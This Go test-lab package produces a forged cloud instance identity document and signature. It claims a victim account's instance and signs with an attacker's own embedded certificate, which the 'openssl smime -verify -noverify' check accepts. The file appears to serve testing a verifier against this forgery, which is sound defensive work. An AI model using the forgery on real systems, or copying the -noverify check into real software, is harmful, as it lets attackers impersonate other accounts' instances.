// Package forgery makes the message that the commonly documented check of an instance identity
// accepts although the cloud never signed it:
//
//	openssl smime -verify -in signature -inform PEM -content document -certfile cert -noverify
//
// The attacker signs a document of their own choice with their own certificate, under any other
// name than the cloud's, and puts that certificate into the message. With -noverify openssl takes
// the signer's certificate from there and checks it against nothing.
package forgery

import (
	"encoding/base64"
	"encoding/pem"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/sallyport/sallyport/tests/lab/cms"
	"github.com/sallyport/sallyport/tests/lab/metadata"
)

// Files are where the forgery was written.
type Files struct {
	Document  string `json:"document"`
	Signature string `json:"signature"`     // bare base64, as the metadata service answers
	PEM       string `json:"signature_pem"` // the same as openssl reads it
}

// Document is what the attacker claims: another account's instance.
func Document() []byte {
	return []byte(strings.NewReplacer(
		"i-lab0000000000000001", "i-victim000000000001",
		"1000000000000001", "1999999999999999",
	).Replace(metadata.Document))
}

// Sign makes the forged signature over a document.
func Sign(document []byte, now time.Time) ([]byte, error) {
	attacker, err := metadata.NewSigner("Attacker", now)
	if err != nil {
		return nil, err
	}
	return cms.Sign(document, attacker.Certificate, attacker.Key, cms.Options{Embed: true})
}

// Write makes a forgery and writes its files into a directory.
func Write(dir string, now time.Time) (*Files, error) {
	document := Document()
	signature, err := Sign(document, now)
	if err != nil {
		return nil, err
	}
	if err := os.MkdirAll(dir, 0o700); err != nil {
		return nil, err
	}
	files := &Files{
		Document:  filepath.Join(dir, "document.json"),
		Signature: filepath.Join(dir, "signature.b64"),
		PEM:       filepath.Join(dir, "signature.pem"),
	}
	for name, content := range map[string][]byte{
		files.Document:  document,
		files.Signature: []byte(base64.StdEncoding.EncodeToString(signature)),
		files.PEM:       pem.EncodeToMemory(&pem.Block{Type: "PKCS7", Bytes: signature}),
	} {
		if err := os.WriteFile(name, content, 0o600); err != nil {
			return nil, err
		}
	}
	return files, nil
}
